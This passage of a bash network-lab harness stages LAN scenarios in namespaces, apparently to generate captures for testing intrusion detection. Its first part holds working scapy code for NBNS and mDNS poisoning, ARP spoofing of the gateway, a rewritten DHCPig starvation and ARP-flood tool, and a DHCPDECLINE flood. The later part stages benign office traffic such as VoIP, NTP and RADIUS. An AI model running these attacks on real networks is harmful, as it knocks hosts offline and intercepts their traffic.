              NBNSHeader(NAME_TRN_ID=p[NBNSHeader].NAME_TRN_ID, RESPONSE=1, NM_FLAGS="AA+RD", ANCOUNT=1, QDCOUNT=0)/
              NBNSQueryResponse(RR_NAME=q.QUESTION_NAME, SUFFIX=q.SUFFIX, TTL=165, ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS="'$NET.66'")]), iface="eth0")
sniff(iface="eth0", filter="udp port 137", prn=ans, timeout=8)'
	sleep 1
	scapy pc 'for i in range(3):
    sendp(Ether(dst="ff:ff:ff:ff:ff:ff")/IP(src="'$NET.10'", dst="'$NET.255'")/UDP(sport=137, dport=137)/
          NBNSHeader(NAME_TRN_ID=0x8000+i, NM_FLAGS="B+RD", QDCOUNT=1)/NBNSQueryRequest(QUESTION_NAME="WPAD", SUFFIX="workstation"), iface="eth0")
    time.sleep(0.75)'
	sleep 6
}
scn_responder_mdns6() {
	# Responder's mDNS answers over IPv6: the PC asks ff02::fb for three .local names, evil answers each with its own AAAA.
	spawn evil "$py" -c 'from scapy.all import *
conf.verb = 0
def ans(p):
    if p.haslayer(DNS) and p[DNS].qr == 0 and p[IPv6].src != "fe80::ba27:ebff:fe00:66" and p[DNS].qd:
        q = p[DNS].qd.qname
        sendp(Ether(dst="33:33:00:00:00:fb")/IPv6(src="fe80::ba27:ebff:fe00:66", dst="ff02::fb", hlim=255)/UDP(sport=5353, dport=5353)/
              DNS(id=0, qr=1, aa=1, qd=None, an=DNSRR(rrname=q, type="AAAA", rdata="fe80::ba27:ebff:fe00:66", ttl=120)), iface="eth0")
sniff(iface="eth0", filter="udp port 5353 and ip6", prn=ans, timeout=8)'
	sleep 1
	scapy pc 'for i, n in enumerate(["nas.local", "printer.local", "fileserver.local"]):
    sendp(Ether(dst="33:33:00:00:00:fb")/IPv6(src="fe80::3e52:82ff:fe00:10", dst="ff02::fb", hlim=255)/UDP(sport=5353, dport=5353)/
          DNS(id=0, qr=0, qd=DNSQR(qname=n, qtype="AAAA")), iface="eth0")
    time.sleep(0.5)'
	sleep 6
}
scn_bettercap_probe() {
	# bettercap net.probe: NBNS, mDNS, SSDP and WS-Discovery probes to every address of the /24, 10 ms apart,
	# from ordinary UDP sockets (the kernel resolves each address; the probes to silent ones die in its queue).
	inns evil "$py" -c 'import socket, struct, time
nb = struct.pack(">6H", 0x1337, 0, 1, 0, 0, 0) + b"\x20" + b"CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" + b"\x00" + struct.pack(">2H", 0x21, 1)
md = struct.pack(">6H", 0, 0, 1, 0, 0, 0) + b"\x09_services\x07_dns-sd\x04_udp\x05local\x00" + struct.pack(">2H", 12, 1)
ssdp = b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n"
wsd = b"<?xml version=\"1.0\"?><soap:Envelope><soap:Body><wsd:Probe/></soap:Body></soap:Envelope>"
socks = [(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), p, pl) for p, pl in ((137, nb), (5353, md), (1900, ssdp), (3702, wsd))]
for i in range(1, 255):
    if i == 66: continue
    for s, p, pl in socks:
        try: s.sendto(pl, ("'$NET'.%d" % i, p))
        except OSError: pass
    time.sleep(0.01)
time.sleep(4)'
}
scn_bettercap_arp_spoof() {
	# bettercap arp.spoof, whole subnet (its default targets), full duplex off: is-at replies claiming the gateway to every
	# known host each second, and answers to who-has for the gateway's address from anyone.
	spawn nas ping -q -c 30 -i 0.3 "$NET.10"
	scapy evil 'import threading
targets = [("'$NET'.10", "3c:52:82:00:00:10"), ("'$NET'.11", "f0:1f:af:00:00:11"), ("'$NET'.30", "00:11:32:00:00:30")] + [("'$NET'.%d" % i, "00:50:56:00:01:%02x" % i) for i in range(100, 130)]
def answer(p):
    if p.haslayer(ARP) and p[ARP].op == 1 and p[ARP].pdst == "'$NET.1'" and p[ARP].hwsrc != mac:
        sendp(Ether(src=mac, dst=p[ARP].hwsrc)/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst=p[ARP].hwsrc, pdst=p[ARP].psrc), iface="eth0")
threading.Thread(target=lambda: sniff(iface="eth0", filter="arp", prn=answer, timeout=9), daemon=True).start()
for r in range(8):
    sendp([Ether(src=mac, dst=m)/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst=m, pdst=ip) for ip, m in targets], iface="eth0")
    time.sleep(1)'
}
# DHCPig (pig.py, kamorin/DHCPig), rewritten for the system's Python 3 with
# its timings: a DISCOVER every 0.4 s from a random 00:0c:29 MAC (frame
# source and chaddr), each OFFER answered with a REQUEST from that MAC;
# with -n an ARP scan of the /24 from a random MAC claiming the server's
# address, with -r a forged DHCPRELEASE for every neighbour found (its MAC
# and address, to the server); pool exhausted after 6 s with no OFFER,
# then with -g, 8 s later, a gratuitous ARP for every address of the /24,
# each from a random MAC ("knock everyone offline").
cat >"$tmp/pig.py" <<'EOF'
import random, string, sys, threading, time
from scapy.all import *
conf.verb = 0; conf.checkIPaddr = False
opts = sys.argv[1] if len(sys.argv) > 1 else ""
state = {"sip": None, "smac": None, "last": 0.0, "dos": False}
def rmac(): return "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
nodes = {}
def on(p):
    if ARP in p and p[ARP].op == 2 and p[ARP].pdst == state["sip"]:
        nodes[p[ARP].hwsrc] = p[ARP].psrc
    if DHCP in p and p[DHCP].options[0][1] == 2:
        state["sip"], state["smac"], state["last"] = p[IP].src, p[Ether].src, time.time()
        m = ":".join("%02x" % b for b in bytes(p[BOOTP].chaddr)[:6])
        host = "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(8))
        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
              BOOTP(chaddr=mac2str(m), xid=p[BOOTP].xid)/DHCP(options=[("message-type", "request"), ("server_id", p[IP].src), ("requested_addr", p[BOOTP].yiaddr), ("hostname", host), "end"]), iface="eth0")
def sniffer():
    while not state["dos"]:
        sniff(iface="eth0", filter="arp or (udp and src port 67 and dst port 68)", prn=on, store=0, timeout=3)
        if state["last"] and time.time() - state["last"] > 6: state["dos"] = True
def discover():
    while not state["dos"]:
        m = rmac(); host = "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(8))
        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
              BOOTP(chaddr=mac2str(m), xid=random.randint(1, 900000000))/DHCP(options=[("message-type", "discover"), ("hostname", host), "end"]), iface="eth0")
        time.sleep(0.4)
threading.Thread(target=sniffer, daemon=True).start()
threading.Thread(target=discover, daemon=True).start()
while state["sip"] is None: time.sleep(2)
if "n" in opts: # srp's answers, read by the sniffer (srp beside it in threads hung)
    m = rmac()
    sendp([Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=state["sip"], pdst=a) for a in Net(state["sip"] + "/24")], iface="eth0")
    time.sleep(8)
if "r" in opts:
    x = random.randint(1, 900000000)
    for m, ip in list(nodes.items()):
        sendp(Ether(src=m, dst=state["smac"])/IP(src=ip, dst=state["sip"])/UDP(sport=68, dport=67)/BOOTP(ciaddr=ip, chaddr=mac2str(m), xid=x)/
              DHCP(options=[("message-type", "release"), ("server_id", state["sip"]), ("client_id", b"\x01" + mac2str(m)), "end"]), iface="eth0")
deadline = time.time() + 90
while not state["dos"] and time.time() < deadline: time.sleep(1)
if "g" in opts:
    time.sleep(8)
    base = state["sip"].rsplit(".", 1)[0]
    for i in range(0, 256):
        m = rmac(); ip = "%s.%d" % (base, i)
        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=ip, hwdst="00:00:00:00:00:00", pdst=ip), iface="eth0")
EOF
scn_dhcpig_default() { inns evil "$py" "$tmp/pig.py"; }
scn_dhcpig_release_garp() { inns evil "$py" "$tmp/pig.py" nrg; }
# A DHCPDECLINE flood: a DECLINE (RFC 2131 4.4.1: the address is in use,
# the server sets it aside) for each of 60 addresses (.150-.209, the
# gateway's pool and past it), each from its own random unicast MAC in
# DHCPig's 00:0c:29 block (frame source and chaddr), 20 a second, with no
# DISCOVER before: the pool emptied without a lease.
scn_dhcp_decline_flood_scapy() {
	scapy evil 'ps = []
for i in range(150, 210):
    m = "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
    ps.append(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
              BOOTP(chaddr=mac2str(m), xid=random.randint(1, 900000000))/DHCP(options=[("message-type", "decline"), ("requested_addr", "'$NET'.%d" % i), ("server_id", "'$NET.1'"), "end"]))
sendp(ps, iface="eth0", inter=0.05)'
	sleep 25 # no forged client shows a stack afterwards
}
# DHCPig -g's last step alone: a gratuitous ARP request (sender and target
# the same address) for every address of the /24, each from its own random
# MAC in the 00:0c:29 block, back to back: every host's entry for every
# neighbour, the gateway's included, bound to a MAC nobody has.
scn_dhcpig_garp_scapy() {
	local i; for i in $(seq 100 129); do spawn "h$i" ping -q -c 2 -i 0.5 "$NET.1"; done # the quiet hosts bound too
	sleep 2
	scapy evil 'ps = []
for i in range(0, 256):
    m = "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
    a = "'$NET'.%d" % i
    ps.append(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=a, hwdst="00:00:00:00:00:00", pdst=a))
sendp(ps, iface="eth0")'
	sleep 2
}
# Session 24 (issue 14): two domain controllers share the DHCP service (a
# split scope, or Windows Server DHCP failover: both hand out the same
# router, subnet and DNS server set, each its own half of the pool; each DC
# lists itself first among the DNS servers). The gateway serves no DHCP.
# Eight PCs ask (dhcpc.py, a full DISCOVER/OFFER/REQUEST/ACK, taking the
# first offer); both servers answer every DISCOVER.
scn_benign_dhcp_split_scope_dnsmasq() {
	local i w=()
	pkill_gw_dnsmasq
	spawn h100 dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --dhcp-authoritative \
		--dhcp-range=$NET.150,$NET.175,1h --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.100,$NET.101 --dhcp-leasefile="$tmp/dc1.leases"
	spawn h101 dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --dhcp-authoritative \
		--dhcp-range=$NET.176,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.101,$NET.100 --dhcp-leasefile="$tmp/dc2.leases"
	sleep 1
	bare_clients c 8 00:07 3c:52:82
	for i in $(seq 1 8); do
		ip netns exec "$P-c$i" "$py" "$tmp/dhcpc.py" "$tmp/split-go" "$tmp/split-ready$i" >/dev/null 2>&1 & w+=($!)
	done
	open_gate split 8 "${w[@]}"
	wait "${w[@]}" || true
	for i in $(seq 1 8); do ip netns del "$P-c$i"; done
	local h p
	for h in h100 h101; do for p in $(ip netns pids "$P-$h"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dnsmasq ] && kill "$p"; done; done
	start_gw_dnsmasq
}

# A server's address moving to its second network card (Linux bonding in
# active-backup mode with fail_over_mac=active, Windows NIC teaming): the
# bonding driver has no module in this lab's kernel, so the kernel's own
# path for a new MAC is used: arp_notify=1 and the card's address changed
# while it is up (NETDEV_CHANGEADDR: one gratuitous ARP, as bonding's
# NETDEV_NOTIFY_PEERS sends); the old MAC falls silent, the new one goes
# on pinging the gateway and the NAS.
scn_benign_nic_failover_kernel() {
	inns h102 sysctl -qw net.ipv4.conf.eth0.arp_notify=1
	inns h102 ping -q -c 10 -i 0.5 "$NET.1" || true
	ip -n "$P-h102" link set dev eth0 address 00:1b:21:aa:01:02
	inns h102 ping -q -c 10 -i 0.5 "$NET.1" || true
	inns h102 ping -q -c 4 -i 0.5 "$nas" || true
	sleep 2
	ip -n "$P-h102" link set dev eth0 address 00:50:56:00:01:66
}

# Windows network discovery's shape with wsdd (Samba's WS-Discovery
# daemon): the 30 quiet hosts each run wsdd as a server (answering Probes
# from 3702, metadata over HTTP on 5357), and the PC runs wsdd in discovery
# mode, which multicasts a Probe and fetches the metadata of every host
# that answers, as Explorer's Network view does.
scn_benign_wsd_discovery_wsdd() {
	local i p
	for i in $(seq 100 129); do spawn "h$i" wsdd -4 -i eth0 -n "pc$i" -w OFFICE -U "$(printf 5d0c0e2a-0000-4000-8000-0000000000%02x "$i")"; done
	for i in $(seq 100 129); do # each listening on 5357 (30 Pythons start slowly on two cores)
		for p in $(seq 150); do inns "h$i" ss -Hltn 'sport = :5357' | grep -q . && break; sleep 0.2; done
	done
	inns pc timeout 15 wsdd -4 -i eth0 -D -o -l 15357 || true
	for i in $(seq 100 129); do for p in $(ip netns pids "$P-h$i"); do grep -qa wsdd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; done
}

# Session 25 (issue 14): a lease reshuffle. The DHCP server restarts with
# its lease file lost (a router whose leases live in RAM) and its scope
# moved (.150-.199 to .160-.209); twenty devices (busybox udhcpc, which
# keeps no lease across a reboot, as embedded devices and IP phones do)
# reboot with it within two seconds, each DISCOVERs and is offered the
# address dnsmasq's hash of its MAC picks in the new range, often one
# another device held a minute before; each pings the gateway from it.
cat >"$tmp/udhcpc.sh" <<'EOF2'
#!/bin/sh
# udhcpc's hook (-s): set the address and route, leave resolv.conf alone.
case $1 in
deconfig) ip -4 addr flush dev "$interface" ;;
bound | renew)
	ip -4 -o addr show dev "$interface" | grep -q " $ip/" || { ip -4 addr flush dev "$interface"; ip addr add "$ip/$mask" dev "$interface"; }
	ip route replace default via "${router%% *}" dev "$interface"
	;;
esac
EOF2
chmod 755 "$tmp/udhcpc.sh"
reshuffle_dnsmasq() { # reshuffle_dnsmasq FIRST LAST: the gateway's dnsmasq, a new lease file, the range given
	pkill_gw_dnsmasq
	rm -f "$tmp/reshuffle.leases"
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
		--dhcp-range=$NET.$1,$NET.$2,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/reshuffle.leases"
	sleep 0.5
}
reshuffle_boot() { # reshuffle_boot I: client I boots: udhcpc until bound, then two pings of the gateway
	local ns=$P-r$1
	ip netns pids "$ns" | xargs -r kill 2>/dev/null || true
	ip -n "$ns" -4 addr flush dev eth0
	ip netns exec "$ns" udhcpc -i eth0 -f -s "$tmp/udhcpc.sh" -t 6 -T 1 -A 1 >/dev/null 2>&1 & pids+=($!)
	local k
	for k in $(seq 100); do ip -n "$ns" -4 -o addr show dev eth0 | grep -q inet && break; sleep 0.1; done
	ip netns exec "$ns" ping -q -c 2 -i 0.5 "$NET.1" >/dev/null 2>&1 || true
}
scn_benign_lease_reshuffle_dnsmasq() {
	local i w=()
	reshuffle_dnsmasq 150 199
	bare_clients r 20 00:09 3c:52:82 f8:bc:12 54:ee:75 00:1b:63 a4:83:e7 30:05:5c b4:2e:99 dc:a6:32
	for i in $(seq 1 20); do reshuffle_boot "$i" & w+=($!); done
	wait "${w[@]}"; w=()
	sleep 5
	reshuffle_dnsmasq 160 209 # restarted: the leases lost, the scope moved
	for i in $(seq 1 20); do (sleep "0.$((RANDOM % 10))$((RANDOM % 10))"; reshuffle_boot "$i") & w+=($!); done
	wait "${w[@]}"
	sleep 3
	for i in $(seq 1 20); do ip netns exec "$P-r$i" ping -q -c 1 "$NET.1" >/dev/null 2>&1 & w+=($!); done
	wait "${w[@]}" || true
	for i in $(seq 1 20); do ip -n "$P-r$i" -4 -o addr show dev eth0 | awk '{print $4}' | tr '\n' ' '; done; echo
	for i in $(seq 1 20); do ip netns pids "$P-r$i" | xargs -r kill 2>/dev/null || true; ip netns del "$P-r$i"; done
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}

# Session 25: the same move with bonding's num_grat_arp=3 (or num_unsol_na;
# default 1, up to 255: drivers/net/bonding/bond_main.c sends one peer
# notification per miimon tick, bond_should_notify_peers, each a gratuitous
# ARP from the new active slave's MAC), flapping: the server's address
# moves to its second card, back to the first 20 s later, and to the
# second again, each time three gratuitous ARPs 100 ms apart (the kernel's
# own for the new MAC, arp_notify=1, then two more from scapy as the
# bonding driver sends them: no bonding module in this lab's kernel).
nic_failover() { # nic_failover HOST MAC: HOST's address moves to the card MAC
	local h=$1 ip
	ip=$(inns "$h" ip -4 -o addr show dev eth0 | awk '{print $4}' | cut -d/ -f1)
	ip -n "$P-$h" link set dev eth0 address "$2"
	scapy "$h" 'ip = sys.argv[1]
for i in range(2):
    time.sleep(0.1)
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc=ip, hwdst="00:00:00:00:00:00", pdst=ip), iface="eth0")' "$ip"
	inns "$h" ping -q -c 6 -i 0.5 "$NET.1" || true
	inns "$h" ping -q -c 3 -i 0.5 "$nas" || true
}
scn_benign_nic_failover_flap() {
	inns h103 sysctl -qw net.ipv4.conf.eth0.arp_notify=1
	inns h103 ping -q -c 6 -i 0.5 "$NET.1" || true
	nic_failover h103 00:1b:21:aa:01:03
	sleep 20
	nic_failover h103 00:50:56:00:01:67
	sleep 20
	nic_failover h103 00:1b:21:aa:01:03
	inns h103 sysctl -qw net.ipv4.conf.eth0.arp_notify=0
	ip -n "$P-h103" link set dev eth0 address 00:50:56:00:01:67
}

# Session 25 (issue 14: "holds on captures not in the corpus"): more of a
# small business's ordinary traffic, staged with the real software.
# free_octets: the lab /24's addresses no named host, quiet host or DHCP
# lease uses; lanhosts PREFIX MAC-PREFIX COUNT makes COUNT namespaces
# PREFIX1..PREFIXn on them (their addresses in lan_ips), drop_hosts PREFIX
# removes them.
free_octets() {
	local o
	for o in $(seq 2 254); do
		case $o in 10 | 11 | 30 | 66) continue ;; esac
		[ "$o" -ge 100 ] && [ "$o" -le 129 ] && continue
		[ "$o" -ge 150 ] && [ "$o" -le 200 ] && continue
		echo "$o"
	done
}
lanhosts() {
	local pre=$1 mp=$2 n=$3 i=0 o
	lan_ips=()
	for o in $(free_octets | head -n "$n"); do
		i=$((i + 1))
		host "$pre$i" "$(printf '%s:%02x:%02x' "$mp" $((i / 256)) $((i % 256)))" "$o"
		lan_ips+=("$NET.$o")
	done
}
drop_hosts() {
	local ns
	for ns in $(ip netns list | awk '{print $1}' | grep -E "^$P-$1[0-9]+\$"); do
		ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
		ip netns del "$ns"
	done
}
kill_in() { # HOST COMM: end the processes named COMM in HOST's namespace
	local p
	for p in $(ip netns pids "$P-$1" 2>/dev/null); do [ "$(cat /proc/$p/comm 2>/dev/null)" = "$2" ] && kill "$p" 2>/dev/null; done
	return 0
}

# An NVR (the NAS) recording 24 IP cameras (the quiet hosts .100-.123, an
# RTSP server each: gst-rtsp-server, MJPEG over RTP/UDP, 15 frames a second
# of about 25 kB, 3 Mbit/s where the lab's cores keep up, and G.711 audio):
# RTSP DESCRIBE/SETUP/PLAY on TCP 554, then
# unicast RTP into the NVR and RTCP both ways (the NVR's receiver reports
# every ~5 s, RFC 3550 6.2); after 15 s every camera reboots at once (a PoE
# switch power-cycled) and the NVR's clients SETUP again within seconds.
cat >"$tmp/camera.py" <<'EOF'
import gi
gi.require_version("Gst", "1.0"); gi.require_version("GstRtsp", "1.0"); gi.require_version("GstRtspServer", "1.0")
from gi.repository import Gst, GstRtsp, GstRtspServer, GLib
Gst.init(None)
srv = GstRtspServer.RTSPServer(); srv.set_service("554")
f = GstRtspServer.RTSPMediaFactory()
f.set_launch("( videotestsrc is-live=true pattern=smpte ! video/x-raw,format=I420,width=640,height=480,framerate=15/1 ! jpegenc quality=55 ! rtpjpegpay name=pay0 pt=26 audiotestsrc is-live=true wave=ticks ! audio/x-raw,format=S16LE,rate=8000,channels=1 ! mulawenc ! rtppcmupay name=pay1 )")
f.set_shared(True)
f.set_protocols(GstRtsp.RTSPLowerTrans.UDP)
srv.get_mount_points().add_factory("/Streaming/Channels/101", f)
srv.attach(None)
GLib.MainLoop().run()
EOF
cameras_up() { local i; for i in $(seq 100 123); do spawn "h$i" "$py" "$tmp/camera.py"; done; }
scn_benign_nvr_cameras_gst() {
	local i w=()
	cameras_up
	sleep 4
	rm -f "$tmp/nvr-stop"
	for i in $(seq 100 123); do # the NVR's recorder per camera (video and audio): reconnect every 2 s while the camera is away
		inns nas bash -c 'until [ -e '"$tmp"'/nvr-stop ]; do gst-launch-1.0 -q rtspsrc location=rtsp://'"$NET.$i"':554/Streaming/Channels/101 protocols=udp latency=200 name=s s. ! queue ! fakesink s. ! queue ! fakesink >/dev/null 2>&1; sleep 2; done' & w+=($!)
	done
	sleep 15
	for i in $(seq 100 123); do kill_in "h$i" python3; done # the reboot
	sleep 4
	cameras_up
	sleep 15
	touch "$tmp/nvr-stop"
	kill_in nas gst-launch-1.0
	wait "${w[@]}" || true
	for i in $(seq 100 123); do kill_in "h$i" python3; done
}

# A VoIP office after a power cut: 50 phones (Yealink's OUI) boot at once;
# each fetches its configuration from the provisioning server (.101): odd
# phones over TFTP (tftpd-hpa; tftp-hpa's client, the common file and its
# MAC's), even ones over HTTP; then registers its extension with the PBX
# (.100: kamailio, digest authentication, RFC 3261 22: REGISTER, 401,
# REGISTER with credentials, 200) with sipsak; then six calls (G.711 RTP).
cat >"$tmp/kamailio.cfg" <<EOF
#!KAMAILIO
debug=1
log_stderror=yes
dns=no
rev_dns=no
children=4
listen=udp:$NET.100:5060
mpath="/usr/lib/x86_64-linux-gnu/kamailio/modules/"
loadmodule "tm.so"
loadmodule "sl.so"
loadmodule "pv.so"
loadmodule "maxfwd.so"
loadmodule "textops.so"
loadmodule "siputils.so"
loadmodule "usrloc.so"
loadmodule "registrar.so"
loadmodule "auth.so"
request_route {
	if (!mf_process_maxfwd_header("10")) { sl_send_reply("483", "Too Many Hops"); exit; }
	if (is_method("REGISTER")) {
		if (!pv_auth_check("\$fd", "Phone-\$fU", "0", "1")) { auth_challenge("\$fd", "0"); exit; }
		if (!save("location")) sl_reply_error();
		exit;
	}
	sl_send_reply("404", "Not here");
}
EOF
scn_benign_voip_power_cut() {
	local i w=() ip
	mkdir -p "$tmp/prov" "$tmp/kam"
	head -c 6000 /dev/urandom | base64 >"$tmp/prov/y000000000000.cfg"
	lanhosts ph 80:5e:c0:00 50
	for i in $(seq 1 50); do head -c 3000 /dev/urandom | base64 >"$tmp/prov/805ec000$(printf %04x "$i").cfg"; done
	chmod -R a+r "$tmp/prov"
	spawn h101 in.tftpd -L -s "$tmp/prov"
	(cd "$tmp/prov" && exec ip netns exec "$P-h101" "$py" -m http.server 80 >/dev/null 2>&1) & pids+=($!)
	spawn h100 kamailio -DD -E -f "$tmp/kamailio.cfg" -Y "$tmp/kam" -P "$tmp/kam/pid"
	for i in $(seq 50); do inns h100 ss -Hlun 'sport = :5060' | grep -q . && break; sleep 0.2; done
	sleep 1
	for i in $(seq 1 50); do
		ip=${lan_ips[$((i - 1))]}
		inns "ph$i" bash -c 'sleep 0.$((RANDOM % 10))$((RANDOM % 10)); f=805ec000'"$(printf %04x "$i")"'.cfg
			if [ $(('"$i"' % 2)) = 1 ]; then cd /tmp && tftp '"$NET.101"' -c get y000000000000.cfg /dev/null && tftp '"$NET.101"' -c get $f /dev/null
			else curl -s -o /dev/null http://'"$NET.101"'/y000000000000.cfg && curl -s -o /dev/null http://'"$NET.101"'/$f; fi
			sipsak -U -H '"$ip"' -C sip:'"$((1000 + i))@$ip"' -x 3600 -a Phone-'"$((1000 + i))"' -s sip:'"$((1000 + i))@$NET.100"' >/dev/null 2>&1' & w+=($!)
	done
	wait "${w[@]}" || true
	w=()
	for i in 1 3 5 7 9 11; do
		office "ph$i" rtp "${lan_ips[$i]}" 16000 8 160 & w+=($!)
		office "ph$((i + 1))" rtp "${lan_ips[$((i - 1))]}" 16000 8 160 & w+=($!)
	done
	wait "${w[@]}" || true
	kill_in h100 kamailio; kill_in h101 in.tftpd; kill_in h101 python3
	drop_hosts ph
}

# The domain controller (.100) as the office's NTP server (chronyd, local
# stratum 8) and 150 PCs (Dell's OUI) running chronyd with "server DC
# iburst" (chrony.conf(5): four to eight requests 2 s apart at start), all
# started within 3 s after a power cut, then polling every 16 s; -x: no
# chronyd here touches the machine's clock.
scn_benign_ntp_fanin_chrony() {
	local i
	mkdir -p "$tmp/ntp"
	printf 'local stratum 8\nallow %s.0/24\ncmdport 0\nbindcmdaddress /\npidfile %s/ntp/dc.pid\n' "$NET" "$tmp" >"$tmp/ntp/dc.conf"
	lanhosts nt f0:1f:af:01 150
	spawn h100 chronyd -x -d -u root -f "$tmp/ntp/dc.conf"
	sleep 2
	for i in $(seq 1 150); do
		printf 'server %s.100 iburst minpoll 4 maxpoll 4\ncmdport 0\nbindcmdaddress /\npidfile %s/ntp/c%d.pid\n' "$NET" "$tmp" "$i" >"$tmp/ntp/c$i.conf"
	done
	for i in $(seq 1 150); do spawn "nt$i" chronyd -x -d -u root -f "$tmp/ntp/c$i.conf"; sleep 0.02; done
	sleep 40
	drop_hosts nt
	kill_in h100 chronyd
}

# 802.1X at 08:00: a switch (.101) relays 50 users' PEAP/MSCHAPv2
# authentications at once to the RADIUS server (.100: FreeRADIUS 3 with
# Debian's configuration, its test certificates made by certs/bootstrap):
# eapol_test (hostapd's authenticator test tool, one per user) sends each
# EAP exchange as Access-Request / Access-Challenge round trips to UDP
# 1812 until Access-Accept.
scn_benign_radius_8021x_freeradius() {
	local i w=()
	rm -rf "$tmp/raddb" && cp -a /etc/freeradius/3.0 "$tmp/raddb"
	(cd "$tmp/raddb/certs" && ./bootstrap >/dev/null 2>&1) || true
	chmod -R a+rX "$tmp/raddb"
	printf 'client switch {\n\tipaddr = %s.101\n\tsecret = Sw1tch-Radius\n}\n' "$NET" >>"$tmp/raddb/clients.conf"
	for i in $(seq 1 50); do printf 'user%d Cleartext-Password := "Pass-%d"\n' "$i" "$i"; done >"$tmp/users"
	cat "$tmp/raddb/mods-config/files/authorize" >>"$tmp/users" && cp "$tmp/users" "$tmp/raddb/mods-config/files/authorize"
	spawn h100 freeradius -f -d "$tmp/raddb"
	sleep 4
	for i in $(seq 1 50); do
		printf 'network={\n\tkey_mgmt=IEEE8021X\n\teap=PEAP\n\tidentity="user%d"\n\tpassword="Pass-%d"\n\tphase2="auth=MSCHAPV2"\n}\n' "$i" "$i" >"$tmp/eap$i.conf"
		inns h101 eapol_test -c "$tmp/eap$i.conf" -a "$NET.100" -s Sw1tch-Radius -t 20 >"$tmp/eap$i.log" 2>&1 & w+=($!)
	done
	wait "${w[@]}" || true
	kill_in h100 freeradius
}

# Printing and scanning: 30 PCs (.100-.129) print to the office MFP (the
# NAS, its print server: CUPS's cupsd) at once, half over IPP (ipptool's
# print-job.test) and half as raw jobs to port 9100
# (AppSocket/JetDirect: the job's bytes on one TCP connection, as CUPS's
# socket backend sends them); then the MFP's scan-to-folder: smbclient put
# of a scanned PDF into ten users' shares (smbd on .100-.109).
cat >"$tmp/raw9100.py" <<'EOF'
import socket, sys, threading
if sys.argv[1] == "listen":
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", 9100)); s.listen(64)
    def drain(c):
        while c.recv(65536): pass
        c.close()
    while True: threading.Thread(target=drain, args=(s.accept()[0],), daemon=True).start()
with open(sys.argv[3], "rb") as f: data = f.read()
c = socket.create_connection((sys.argv[2], 9100)); c.sendall(data); c.shutdown(socket.SHUT_WR); c.recv(1); c.close()
EOF
user_smbd() { # HOST: smbd with the share "scans" writable by scanner (password Scan-2026)
	local d=$tmp/smb-$1
	mkdir -p "$d"/{lock,state,cache,private,pid,ncalrpc,binddns,scans}
	chmod 777 "$d/scans"
	cat >"$d/smb.conf" <<EOF
[global]
workgroup = LAB
server role = standalone server
interfaces = eth0
bind interfaces only = yes
smb ports = 445
disable netbios = yes
server min protocol = SMB2
lock directory = $d/lock
state directory = $d/state
cache directory = $d/cache
private dir = $d/private
pid directory = $d/pid
ncalrpc dir = $d/ncalrpc
binddns dir = $d/binddns
log file = $d/log
passdb backend = tdbsam
load printers = no
printcap name = /dev/null
disable spoolss = yes
[scans]
path = $d/scans
read only = no
EOF
	printf 'Scan-2026\nScan-2026\n' | inns "$1" smbpasswd -c "$d/smb.conf" -s -a root >/dev/null
	spawn "$1" smbd -F -s "$d/smb.conf"
}
start_cupsd() { # CUPS's cupsd on the NAS, IPP on 631, the raw queue "mfp" (its device /dev/null)
	local d=$tmp/cups p
	mkdir -p "$d"/{spool,state,cache,log} && cp -a /etc/cups "$d/root"
	cat >"$d/cups-files.conf" <<EOF
ServerRoot $d/root
RequestRoot $d/spool
StateDir $d/state
CacheDir $d/cache
TempDir $d/spool
ErrorLog $d/log/error_log
AccessLog $d/log/access_log
PageLog $d/log/page_log
FileDevice Yes
User lp
Group lp
SystemGroup root
EOF
	cat >"$d/cupsd.conf" <<EOF
Listen 0.0.0.0:631
Listen $d/cups.sock
Browsing No
DefaultAuthType None
WebInterface No
<Location />
  Order allow,deny
  Allow all
</Location>
<Policy default>
  <Limit All>
    Order deny,allow
  </Limit>
</Policy>
EOF
	chmod -R a+rwX "$d"
	spawn nas cupsd -f -c "$d/cupsd.conf" -s "$d/cups-files.conf"
	for p in $(seq 50); do [ -S "$d/cups.sock" ] && break; sleep 0.2; done
	inns nas lpadmin -h "$d/cups.sock" -p mfp -v file:///dev/null -m raw -E 2>/dev/null
}
